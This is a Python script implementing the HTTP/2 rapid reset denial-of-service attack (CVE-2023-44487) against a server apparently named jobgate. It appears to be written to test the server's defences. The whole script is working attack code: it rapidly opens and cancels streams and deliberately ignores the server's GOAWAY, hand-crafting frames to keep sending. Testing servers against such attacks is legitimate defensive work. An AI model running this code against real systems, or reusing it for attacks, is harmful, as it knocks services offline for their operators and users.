"""
HTTP/2 rapid reset (CVE-2023-44487) against jobgate over h2c, with the h2 library
(Debian's python3-h2; run it with /usr/bin/python3, not a python3 without h2).

    /usr/bin/python3 rapid_reset.py HOST PORT PATH TOKEN COUNT BODY_TEMPLATE [options]

Opens one connection and writes COUNT streams as fast as the socket and the server's
flow-control window allow: for each, HEADERS, DATA with END_STREAM (a whole job;
BODY_TEMPLATE holds "{n}" for the stream's number), then at once RST_STREAM (CANCEL),
so that the request has reached the server's handler and is cancelled before it can be
answered. h2's H2Connection builds the frames and reads the server's until the server
sends GOAWAY; after that the client, as an attacker would, ignores the GOAWAY and goes
on opening streams, now framed by hyperframe and HPACK-encoded by the same connection's
encoder (h2 itself refuses to open streams after a GOAWAY), within the flow-control
window left. The script keeps reading all the while and stops when the server closes
the connection, once everything was written and --linger-ms passed, or at --timeout-ms.

Options:
  --then-request     after the COUNT reset streams, one more stream with a job that is
                     not reset; waits for its answer, then lingers
  --linger-ms MS     after everything was written (and answered), keep reading this long
                     (default 300)
  --timeout-ms MS    give up after this long (default 10000)

Prints one JSON object:
  streams          COUNT
  written_streams  how many of the COUNT streams were written to the socket in full
  all_written_at_ms  when the last of them was (absent if never)
  goaway           null, or the first GOAWAY: {error_code, last_stream_id, at_ms,
                   written_streams}: when it came (ms after the first stream's bytes were
                   written) and how many streams had been written by then
  closed           whether the server closed the connection (closed_at_ms, close_error:
                   null for an orderly close, else the errno name)
  final            with --then-request: {status, body} of the last stream
  elapsed_ms
"""
import argparse
import errno
import json
import select
import socket
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import DataFrame, HeadersFrame, RstStreamFrame

GOAWAY = 0x7
CANCEL = int(h2.errors.ErrorCodes.CANCEL)


class FrameScanner:
    """Reads the server's frames independently of h2, which stops at a GOAWAY."""

    def __init__(self):
        self.buffer = bytearray()
        self.goaways = []

    def feed(self, data):
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[0:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind = self.buffer[3]
            payload = bytes(self.buffer[9:9 + length])
            del self.buffer[:9 + length]
            if kind == GOAWAY and length >= 8:
                self.goaways.append((int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
                                     int.from_bytes(payload[4:8], "big")))


def main():
    parser = argparse.ArgumentParser()
    for name in ("host", "port", "path", "token", "count", "template"):
        parser.add_argument(name)
    parser.add_argument("--then-request", action="store_true")
    parser.add_argument("--linger-ms", type=int, default=300)
    parser.add_argument("--timeout-ms", type=int, default=10000)
    args = parser.parse_args()
    count = int(args.count)
    total = count + 1 if args.then_request else count

    sock = socket.create_connection((args.host, int(args.port)), timeout=5)
    sock.setblocking(False)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    scanner = FrameScanner()

    result = {"streams": count, "written_streams": 0, "goaway": None, "closed": False,
              "closed_at_ms": None, "close_error": None, "final": None}
    final = {"stream": None, "status": None, "body": b"", "done": False}
    out = bytearray(conn.data_to_send())
    ends = []          # ends[i]: the offset in out where stream i+1's frames end
    state = {"n": 0, "h2": True, "window": 0, "next_id": 1, "settings": False}
    sent = 0
    start = None

    def headers_for(body):
        return [(":method", "POST"), (":scheme", "http"), (":authority", f"{args.host}:{args.port}"),
                (":path", args.path), ("authorization", f"Bearer {args.token}"),
                ("content-type", "application/json"), ("content-length", str(len(body)))]

    def build_streams():
        """Adds streams to out while the window allows and out is not too far ahead."""
        nonlocal out
        while state["n"] < total and len(out) - sent < 256 * 1024:
            n = state["n"] + 1
            body = args.template.replace("{n}", str(n)).encode()
            if state["h2"]:
                if conn.outbound_flow_control_window < len(body):
                    return
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, headers_for(body))
                conn.send_data(stream_id, body, end_stream=True)
                if n <= count:
                    conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                else:
                    final["stream"] = stream_id
                out += conn.data_to_send()
                state["next_id"] = stream_id + 2
            else:
                # After the GOAWAY: frames by hand, in the window h2 had left.
                if state["window"] < len(body) or n > count:
                    return
                state["window"] -= len(body)
                stream_id = state["next_id"]
                state["next_id"] += 2
                out += HeadersFrame(stream_id, conn.encoder.encode(headers_for(body)),
                                    flags=["END_HEADERS"]).serialize()
                out += DataFrame(stream_id, body, flags=["END_STREAM"]).serialize()
                out += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
            state["n"] = n
            ends.append(len(out))

    def now_ms():
        return 0 if start is None else round((time.monotonic() - start) * 1000)

    def on_data(data):
        scanner.feed(data)
        if scanner.goaways and result["goaway"] is None:
            last_stream_id, error_code = scanner.goaways[0]
            result["goaway"] = {"error_code": error_code, "last_stream_id": last_stream_id,
                                "at_ms": now_ms(), "written_streams": result["written_streams"]}
        if not state["h2"]:
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            events = [h2.events.ConnectionTerminated()]
        for event in events:
            if isinstance(event, h2.events.RemoteSettingsChanged):
                state["settings"] = True
            elif isinstance(event, h2.events.ConnectionTerminated):
                state["h2"] = False
                state["window"] = conn.outbound_flow_control_window
            elif getattr(event, "stream_id", None) == final["stream"] and final["stream"] is not None:
                if isinstance(event, h2.events.ResponseReceived):
                    final["status"] = int(dict(event.headers)[b":status"])
                elif isinstance(event, h2.events.DataReceived):
                    final["body"] += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                    final["done"] = True
        if state["h2"]:
            out.extend(conn.data_to_send())

    # The server's preface first (its SETTINGS, maybe a WINDOW_UPDATE), so that the
    # streams go out with the settings and window they will be judged by.
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        if sent < len(out):
            sent += sock.send(out[sent:])
        readable, _, _ = select.select([sock], [], [], 0.05)
        if readable:
            data = sock.recv(65536)
            if not data:
                raise SystemExit("the server closed the connection before its SETTINGS")
            on_data(data)
        if state["settings"]:
            break
    if not state["settings"]:
        raise SystemExit("no SETTINGS from the server within 5 s")
    # h2o sends a WINDOW_UPDATE for the connection right after its SETTINGS.
    if select.select([sock], [], [], 0.1)[0]:
        data = sock.recv(65536)
        if data:
            on_data(data)

    start = time.monotonic()
    stream_index = 0
    done_writing_at = None
    build_streams()
    while True:
        if now_ms() > args.timeout_ms:
            break
        if done_writing_at is None and sent == len(out) and state["n"] == total and \
                (final["stream"] is None or final["done"]):
            done_writing_at = time.monotonic()
        if done_writing_at is not None and (time.monotonic() - done_writing_at) * 1000 >= args.linger_ms:
            break
        readable, writable, _ = select.select([sock], [sock] if sent < len(out) else [], [], 0.05)
        if writable:
            try:
                sent += sock.send(out[sent:sent + 65536])
            except BlockingIOError:
                pass
            except OSError as error:
                result["closed"], result["closed_at_ms"] = True, now_ms()
                result["close_error"] = errno.errorcode.get(error.errno, str(error))
                break
            while stream_index < len(ends) and ends[stream_index] <= sent:
                stream_index += 1
            result["written_streams"] = min(stream_index, count)
            if result["written_streams"] == count and result.get("all_written_at_ms") is None:
                result["all_written_at_ms"] = now_ms()
        if readable:
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                data = None
            except OSError as error:
                result["closed"], result["closed_at_ms"] = True, now_ms()
                result["close_error"] = errno.errorcode.get(error.errno, str(error))
                break
            if data == b"":
                result["closed"], result["closed_at_ms"] = True, now_ms()
                break
            if data:
                on_data(data)
        build_streams()

    result["elapsed_ms"] = now_ms()
    if final["stream"] is not None:
        result["final"] = {"status": final["status"], "body": final["body"].decode("utf-8", "replace")}
    sock.close()
    print(json.dumps(result))


if __name__ == "__main__":
    main()
